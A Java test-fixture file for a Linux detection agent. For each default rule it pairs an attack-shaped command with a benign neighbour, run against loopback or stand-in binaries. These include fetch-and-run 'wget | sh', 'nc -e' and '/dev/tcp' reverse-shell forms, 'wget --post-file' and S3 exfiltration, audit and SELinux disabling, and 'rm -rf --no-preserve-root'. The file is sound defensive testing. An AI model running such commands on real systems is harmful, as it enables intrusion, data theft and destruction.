package dev.vigil.agent;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

/**
 * The replays of the default detection rules that fire on process events (issue #6): for each,
 * a behaviour performed for real and a benign neighbour that must not raise that rule.
 * {@link RuleReplayTest} runs them against a real agent, {@link RuleReplayCoverageTest} lists
 * which default rules they cover in docs/rules-replays.md.
 *
 * <p>Where a side runs:
 * <ul>
 * <li>{@link Where#MAIN}: a shell snippet in an ordinary busybox container, run from the
 * container's script shell in a subshell whose working directory names the case (that is how an
 * alert is tied to its case: every process the snippet starts inherits the directory);</li>
 * <li>{@link Where#PRIV}: the same in a {@code --privileged} container;</li>
 * <li>{@link Where#HOST}: a command on the host, started by the test in its own directory.</li>
 * </ul>
 *
 * <p>What a replay proves: the busybox image has only busybox applets. Tools it lacks run as
 * stand-ins: a copy of busybox installed as {@code /usr/local/bin/NAME} and started with
 * {@code exec -a true}, so the kernel execs a file called NAME with the attacker's arguments and
 * busybox runs its harmless {@code true} applet. Such a replay proves the rule fires on a real
 * exec of that name and command line, not that the real tool would be caught doing its work
 * (which the rule does not look at). On the host the stand-ins are copies of {@code /bin/true}
 * in the test's temp dir. Real applets (nc, wget, tar, shred, uname, ...) run for real, with
 * arguments that do nothing harmful: connections go to a closed port of the container's own
 * loopback (the containers have no network), files are the container's own.
 */
final class RuleReplayCases {
    private RuleReplayCases() {}

    enum Where { MAIN, PRIV, HOST }

    /**
     * One side of a case: a shell snippet in a container, or argv on the host. A host argv whose
     * first word has no slash and is not {@code podman} names a stand-in; {@code @memfd} runs a
     * copy of /bin/true from an anonymous memory file.
     */
    record Side(Where where, String snippet, List<String> argv) {
        static Side main(String snippet) { return new Side(Where.MAIN, snippet, null); }
        static Side priv(String snippet) { return new Side(Where.PRIV, snippet, null); }
        static Side host(String... argv) { return new Side(Where.HOST, null, List.of(argv)); }
    }

    /**
     * @param rule    the default rule's name
     * @param what    the behaviour, for the test name
     * @param output  fragments the alert's formatted output must contain (the command line as the rule prints it)
     */
    record Case(String rule, String what, Side attack, Side benign, List<String> output) {
        String testName() { return rule + ": " + what; }
    }

    /** Stand-ins installed in the container images' /usr/local/bin (copies of busybox). */
    static final List<String> CONTAINER_STANDINS = List.of("nginx", "python3", "useradd", "setcap", "getcap",
            "iptables", "gcc", "pip", "john", "nmap", "kubectl", "ssh", "scp", "mysqldump", "mysql", "aws", "iodine", "dig", "socat",
            "chisel", "openssl", "tor", "curl", "xmrig", "stress-ng", "app", "shutdown", "pkexec", "apt", "tool");

    /** Host stand-ins (copies of /bin/true in the test's bin directory). */
    static final List<String> HOST_STANDINS = List.of("pkexec", "systemctl", "setenforce", "getenforce", "auditctl", "nc", "crontab", "su",
            "kubectl", "ssh", "socat", "true-copy");

    private static Case c(String rule, String what, Side attack, Side benign, String... output) {
        return new Case(rule, what, attack, benign, List.of(output));
    }

    static final List<Case> CASES = List.of(
            // ---------------- initial access
            c("Shell Spawned by Web Server", "a process named nginx starts /bin/sh",
                    Side.main("exec -a sh /usr/local/bin/nginx -c '/bin/sh -c true; exit 0'"),
                    Side.main("exec -a sh /usr/local/bin/nginx -c '/bin/true; exit 0'"),
                    "sh -c true", "nginx"),
            c("Privilege Escalation Exploit Tool pkexec", "pkexec in a container",
                    Side.main("fake pkexec --user root /bin/true"),
                    Side.host("pkexec", "--version"),
                    "pkexec --user root /bin/true"),
            c("Privilege Escalation Exploit Tool pkexec", "pkexec with an empty argument list on the host (PwnKit's shape)",
                    Side.host("pkexec"),
                    Side.host("pkexec", "--version"),
                    "pkexec executed (cmdline=pkexec "),
            // ---------------- execution
            c("Shell Spawned in Container", "xargs starts a shell",
                    Side.main("echo x | /usr/bin/xargs /bin/sh -c true"),
                    Side.main("/bin/sh -c true"),
                    "sh -c true x", "parent=xargs"),
            c("Interpreter One-Liner in Container", "python3 -c",
                    Side.main("fake python3 -c 'print(1)'"),
                    Side.main("fake python3 --version"),
                    "python3 -c print(1)"),
            c("Remote Script Piped to Shell", "wget ... | sh",
                    Side.main("/bin/sh -c 'wget -q -O- http://127.0.0.1:9/vigil.sh | sh'"),
                    Side.main("/bin/sh -c 'wget -q -O /dev/null http://127.0.0.1:9/index.html'"),
                    "sh -c wget -q -O- http://127.0.0.1:9/vigil.sh | sh"),
            c("Container Exec Command Run", "podman exec on the host",
                    Side.host("podman", "--runtime", "runc", "exec", "{MAIN}", "/bin/true"),
                    Side.host("podman", "--runtime", "runc", "inspect", "--format", "{{.Id}}", "{MAIN}"),
                    "podman --runtime runc exec "),
            c("Privileged Container Launched From Command Line", "podman run --privileged on the host",
                    Side.host("podman", "--runtime", "runc", "run", "--rm", "--privileged", "--network", "none", "{IMAGE}", "/bin/true"),
                    Side.host("podman", "--runtime", "runc", "run", "--rm", "--network", "none", "{IMAGE}", "/bin/true"),
                    "podman --runtime runc run --rm --privileged"),
            c("Netcat With Command Execution", "nc -e to a closed loopback port",
                    Side.main("/usr/bin/nc -w 1 127.0.0.1 9 -e /bin/true"),
                    Side.main("/usr/bin/nc -w 1 127.0.0.1 9"),
                    "nc -w 1 127.0.0.1 9 -e /bin/true"),
            // The applet named by busybox's first argument rather than by argv[0]: how busybox images run tools they have no link for.
            c("Netcat With Command Execution", "busybox nc -e (the applet as busybox's argument)",
                    Side.main("/bin/busybox nc -w 1 127.0.0.1 9 -e /bin/true"),
                    Side.main("/bin/busybox nc -w 1 127.0.0.1 9"),
                    "nc -w 1 127.0.0.1 9 -e /bin/true"),
            c("Bash Network Redirection Reverse Shell", "a shell opening /dev/tcp/...",
                    Side.main("/bin/sh -c 'exec 3<>/dev/tcp/127.0.0.1/9'"),
                    Side.main("/bin/sh -c 'exec 3</dev/null'"),
                    "sh -c exec 3<>/dev/tcp/127.0.0.1/9"),
            // ---------------- persistence
            c("Crontab Edited in Container", "crontab -l",
                    Side.main("/usr/bin/crontab -l"),
                    Side.host("crontab", "-l"),
                    "crontab -l"),
            c("Local Account Created or Changed", "useradd from a shell",
                    Side.main("fake useradd -m vigil-replay"),
                    // A package's maintainer script adding its system user is what the exception is for.
                    Side.main("exec -a sh /usr/local/bin/apt -c '(exec -a true /usr/local/bin/useradd --system vigil-replay); exit 0'"),
                    "useradd -m vigil-replay"),
            // ---------------- privilege escalation
            c("LD_PRELOAD Used on Command Line", "LD_PRELOAD of a /tmp library",
                    Side.main("/bin/sh -c 'LD_PRELOAD=/tmp/vigil.so /bin/true'"),
                    Side.main("/bin/sh -c 'LD_BIND_NOW=1 /bin/true'"),
                    "sh -c LD_PRELOAD=/tmp/vigil.so /bin/true"),
            c("Sudo or Su in Container", "su root -c true",
                    Side.main("/bin/su root -c /bin/true"),
                    Side.host("su", "root", "-c", "/bin/true"),
                    "su root -c /bin/true"),
            c("File Capabilities Set", "setcap cap_setuid on a binary",
                    Side.main("fake setcap cap_setuid+ep /tmp/vigil-replay-bin"),
                    Side.main("fake getcap /tmp/vigil-replay-bin"),
                    "setcap cap_setuid+ep /tmp/vigil-replay-bin"),
            c("Nsenter Executed", "nsenter (joining no namespace)",
                    Side.main("/usr/bin/nsenter /bin/true"),
                    Side.main("/bin/ls /proc/self/ns"),
                    "nsenter /bin/true"),
            c("Mount Command in Container", "mount (listing)",
                    Side.main("/bin/mount"),
                    Side.main("/bin/cat /proc/mounts"),
                    "cmdline=mount "),
            c("Chroot in Container", "chroot / true",
                    Side.main("/usr/sbin/chroot / /bin/true"),
                    Side.main("/usr/bin/env /bin/true"),
                    "chroot / /bin/true"),
            c("Shell in Privileged Container", "a shell in a --privileged container",
                    Side.priv("/bin/sh -c true"),
                    Side.main("/bin/sh -c true"),
                    "sh -c true"),
            c("Module Tool Run in Container", "rmmod of a module that does not exist",
                    Side.main("/sbin/rmmod vigil_replay_none"),
                    Side.main("/sbin/modinfo vigil_replay_none"),
                    "rmmod vigil_replay_none"),
            // ---------------- defense evasion
            c("Execution From Temporary Directory", "a binary dropped in /tmp",
                    Side.main("exec -a true /tmp/dropper --vigil-replay"),
                    Side.main("exec -a true /usr/local/bin/tool --vigil-replay"),
                    "exe=/tmp/dropper", "dropper --vigil-replay"),
            c("Execution From Hidden Directory", "a binary in /opt/.hidden",
                    Side.main("exec -a true /opt/.hidden/tool --vigil-replay"),
                    Side.main("exec -a true /root/.cache/tool --vigil-replay"),
                    "exe=/opt/.hidden/tool", "tool --vigil-replay"),
            c("Fileless Execution via Memfd", "a copy of true run from a memfd on the host",
                    Side.host("@memfd", "--vigil-replay"),
                    Side.host("true-copy", "--vigil-replay"),
                    "exe=/memfd:vigil-replay", "--vigil-replay"),
            // The dropper's trick: open the binary, unlink it, execute it through its descriptor.
            c("Deleted Binary Executed", "a binary unlinked before it runs through /proc/self/fd",
                    Side.main("cp /bin/busybox /tmp/gone && exec 3</tmp/gone && rm /tmp/gone && exec -a true /proc/self/fd/3 --vigil-replay"),
                    Side.main("cp /bin/busybox /tmp/kept && exec 3</tmp/kept && exec -a true /proc/self/fd/3 --vigil-replay"),
                    "exe=/tmp/gone (deleted)", "cmdline=gone --vigil-replay"),
            c("Shell History Disabled", "HISTFILE=/dev/null",
                    Side.main("/bin/sh -c 'export HISTFILE=/dev/null; true'"),
                    Side.main("/bin/sh -c 'export HISTFILE=/root/.ash_history; true'"),
                    "sh -c export HISTFILE=/dev/null; true"),
            c("File Timestamps Altered", "touch -r",
                    Side.main("/bin/touch -r /etc/passwd /tmp/vigil-ts"),
                    Side.main("/bin/touch /tmp/vigil-ts2"),
                    "touch -r /etc/passwd /tmp/vigil-ts"),
            c("Mandatory Access Control Disabled", "setenforce 0 on the host",
                    Side.host("setenforce", "0"),
                    Side.host("getenforce"),
                    "setenforce 0"),
            c("Firewall Rules Flushed", "iptables -F",
                    Side.main("fake iptables -F"),
                    Side.main("fake iptables -L -n"),
                    "iptables -F"),
            c("Audit System Disabled", "auditctl -D on the host",
                    Side.host("auditctl", "-D"),
                    Side.host("auditctl", "-l"),
                    "auditctl -D"),
            c("Process Name Masquerading as Kernel Thread", "argv[0] [kworker/0:1]",
                    Side.main("exec -a '[kworker/0:1]' /usr/local/bin/app"),
                    Side.main("/bin/true '[kworker/0:1]'"),
                    "argv0=[kworker/0:1]"),
            c("Payload Decoded in Container", "base64 -d",
                    Side.main("/bin/base64 -d /tmp/payload.b64"),
                    Side.main("/bin/base64 /etc/hostname"),
                    "base64 -d /tmp/payload.b64"),
            c("Compiler Run in Container", "gcc from a shell",
                    Side.main("fake gcc -o /tmp/implant /tmp/implant.c"),
                    // pip building a wheel runs the compiler: the package-manager exception.
                    Side.main("exec -a sh /usr/local/bin/pip -c '(exec -a true /usr/local/bin/gcc -c ext.c); exit 0'"),
                    "gcc -o /tmp/implant /tmp/implant.c"),
            // ---------------- credential access
            c("Credential Search in Files", "grep -r password /etc",
                    Side.main("/bin/grep -r password /etc"),
                    Side.main("/bin/grep -r root /etc"),
                    "grep -r password /etc"),
            c("Password Cracking or Brute Force Tool", "john with a wordlist",
                    Side.main("fake john --wordlist=/dev/null /tmp/hashes"),
                    Side.main("/usr/bin/md5sum /etc/passwd"),
                    "john --wordlist=/dev/null /tmp/hashes"),
            // ---------------- discovery
            c("Network Scanner Run", "nmap of loopback",
                    Side.main("fake nmap -sT -p 1-10 127.0.0.1"),
                    Side.main("/bin/ping -c 1 -W 1 127.0.0.1"),
                    "nmap -sT -p 1-10 127.0.0.1"),
            c("Container Environment Reconnaissance", "kubectl in a container",
                    Side.main("fake kubectl get pods -A"),
                    Side.host("kubectl", "get", "pods", "-A"),
                    "kubectl get pods -A"),
            c("Privilege Escalation Enumeration Script", "sh linpeas.sh",
                    Side.main("/bin/sh /tmp/linpeas.sh"),
                    Side.main("/bin/sh /tmp/healthcheck.sh"),
                    "sh /tmp/linpeas.sh"),
            c("System Information Discovery in Container", "uname -a from a shell",
                    Side.main("/bin/uname -a"),
                    Side.main("/bin/date"),
                    "uname -a"),
            c("Account Discovery in Container", "id from a shell",
                    Side.main("/usr/bin/id"),
                    Side.main("/usr/bin/nproc"),
                    "cmdline=id "),
            c("Network Configuration Discovery in Container", "ifconfig -a from a shell",
                    Side.main("/sbin/ifconfig -a"),
                    Side.main("/bin/hostname"),
                    "ifconfig -a"),
            c("Process Discovery in Container", "ps from a shell",
                    Side.main("/bin/ps"),
                    Side.main("/usr/bin/uptime"),
                    "cmdline=ps "),
            // ---------------- lateral movement
            c("SSH Client in Container", "ssh in a container",
                    Side.main("fake ssh -V"),
                    Side.host("ssh", "-V"),
                    "ssh -V"),
            c("Remote Copy Tool to Another Host", "scp to user@host",
                    Side.main("fake scp /etc/hostname backup@10.0.0.2:/tmp/"),
                    Side.main("fake scp /etc/hostname /tmp/hostname.copy"),
                    "scp /etc/hostname backup@10.0.0.2:/tmp/"),
            // ---------------- collection
            c("Sensitive Directory Archived", "tar of /etc",
                    Side.main("/bin/tar -cf /tmp/etc.tar /etc"),
                    Side.main("/bin/tar -cf /tmp/var.tar /var"),
                    "tar -cf /tmp/etc.tar /etc"),
            c("Database Dump in Container", "mysqldump from a shell",
                    Side.main("fake mysqldump --all-databases"),
                    Side.main("fake mysql --version"),
                    "mysqldump --all-databases"),
            // ---------------- exfiltration
            c("Data Uploaded With Command-Line HTTP Client", "wget --post-file",
                    Side.main("/usr/bin/wget -q --post-file=/etc/hostname http://127.0.0.1:9/"),
                    Side.main("/usr/bin/wget -q -O /dev/null http://127.0.0.1:9/"),
                    "wget -q --post-file=/etc/hostname http://127.0.0.1:9/"),
            c("Cloud Storage Copy From Container", "aws s3 cp",
                    Side.main("fake aws s3 cp /etc/hostname s3://vigil-replay/"),
                    Side.main("fake aws s3 ls"),
                    "aws s3 cp /etc/hostname s3://vigil-replay/"),
            c("DNS Tunnel Tool", "iodine",
                    Side.main("fake iodine -f 10.0.0.1 t.example.com"),
                    Side.main("fake dig example.com"),
                    "iodine -f 10.0.0.1 t.example.com"),
            // ---------------- command and control
            c("Netcat or Socat in Container", "socat in a container",
                    Side.main("fake socat -V"),
                    Side.host("socat", "-V"),
                    "socat -V"),
            c("Tunneling Tool Run", "chisel client",
                    Side.main("fake chisel client 10.0.0.1:8080 R:socks"),
                    Side.main("fake openssl version"),
                    "chisel client 10.0.0.1:8080 R:socks"),
            c("SSH Port Forwarding", "ssh -L",
                    Side.main("fake ssh -N -L 8080:127.0.0.1:80 user@10.0.0.2"),
                    Side.main("fake ssh user@10.0.0.2 uptime"),
                    "ssh -N -L 8080:127.0.0.1:80 user@10.0.0.2"),
            c("Anonymizing Proxy Tool", "tor",
                    Side.main("fake tor --version"),
                    Side.main("fake curl --version"),
                    "tor --version"),
            c("Download Tool Run in Container", "wget of a URL",
                    Side.main("/usr/bin/wget -q -O /tmp/tool http://127.0.0.1:9/tool"),
                    Side.main("/usr/bin/wget --help"),
                    "wget -q -O /tmp/tool http://127.0.0.1:9/tool"),
            c("Package Manager Run in Container", "dpkg -l from a shell",
                    Side.main("/usr/bin/dpkg -l"),
                    // dpkg run by apt is the exception; apt itself starts outside the case's directory.
                    Side.main("cd / && exec -a sh /usr/local/bin/apt -c 'cd $CASE_DIR && /usr/bin/dpkg -l; exit 0'"),
                    "dpkg -l"),
            // ---------------- impact
            c("Crypto Miner Executed", "xmrig",
                    Side.main("fake xmrig --donate-level 1 -o pool.example.com:3333"),
                    Side.main("fake stress-ng --cpu 1 --timeout 1"),
                    "xmrig --donate-level 1 -o pool.example.com:3333"),
            c("Mining Pool Address on Command Line", "stratum+tcp:// URL",
                    Side.main("fake app --url stratum+tcp://pool.example.com:3333"),
                    Side.main("fake app --url https://pool.example.com"),
                    "app --url stratum+tcp://pool.example.com:3333"),
            // The target is a scratch directory of the container's own; the rule keys on the option.
            c("Destructive Deletion of Root Filesystem", "rm -rf --no-preserve-root (of a scratch dir)",
                    Side.main("/bin/rm -rf --no-preserve-root /tmp/vigil-scratch"),
                    Side.main("/bin/rm -rf /tmp/vigil-scratch"),
                    "rm -rf --no-preserve-root /tmp/vigil-scratch"),
            c("Disk Wipe Tool", "shred of a scratch file",
                    Side.main("/usr/bin/shred -n 1 /tmp/wipe-me"),
                    Side.main("/bin/dd if=/dev/zero of=/tmp/zeros bs=1k count=1"),
                    "shred -n 1 /tmp/wipe-me"),
            c("Security Service Stopped", "systemctl stop auditd on the host",
                    Side.host("systemctl", "stop", "auditd"),
                    Side.host("systemctl", "status", "auditd"),
                    "systemctl stop auditd"),
            // busybox's reboot would signal the container's pid 1: a stand-in named shutdown instead.
            c("System Shutdown From Container", "shutdown -h now",
                    Side.main("fake shutdown -h now"),
                    Side.main("/usr/bin/uptime"),
                    "shutdown -h now"),
            c("Files Encrypted With OpenSSL or GPG in Container", "openssl enc",
                    Side.main("fake openssl enc -aes-256-cbc -in /etc/hostname -out /tmp/hostname.enc -k x"),
                    Side.main("fake openssl version"),
                    "openssl enc -aes-256-cbc -in /etc/hostname -out /tmp/hostname.enc -k x"));

    /**
     * Process rules without a replay yet, and why. Everything else the default set has needs the
     * file, network or privilege syscall events (the coverage test lists which).
     */
    static final Map<String, String> PROCESS_RULES_NOT_REPLAYED = Map.of();

    /** The setup every container script runs before its cases (from /, so nothing is attributed to a case). */
    static String containerPrelude() {
        List<String> lines = new ArrayList<>(Arrays.asList(
                "mkdir -p /usr/local/bin /opt/.hidden /root/.cache /vigil-replay",
                "for t in " + String.join(" ", CONTAINER_STANDINS) + "; do cp /bin/busybox /usr/local/bin/$t; done",
                "cp /bin/busybox /tmp/dropper; cp /bin/busybox /opt/.hidden/tool; cp /bin/busybox /root/.cache/tool",
                "cp /bin/busybox /tmp/vigil-replay-bin",
                "echo aGkK > /tmp/payload.b64; echo 'exit 0' > /tmp/linpeas.sh; echo 'exit 0' > /tmp/healthcheck.sh",
                "echo x > /tmp/wipe-me; mkdir -p /tmp/vigil-scratch",
                // A stand-in: the kernel execs a file named $1 with the arguments, busybox runs true.
                "fake() { n=$1; shift; exec -a true /usr/local/bin/$n \"$@\"; }",
                // A case: its own directory, a subshell, its exit status on stdout.
                "case_() { d=/vigil-replay/$1; mkdir -p $d; cd $d; export CASE_DIR=$d; ( eval \"$2\" ) </dev/null >/dev/null 2>&1; echo \"VIGIL-CASE $1 $?\"; cd /; }"));
        return String.join("\n", lines) + "\n";
    }

    static String quote(String s) {
        return "'" + s.replace("'", "'\\''") + "'";
    }
}
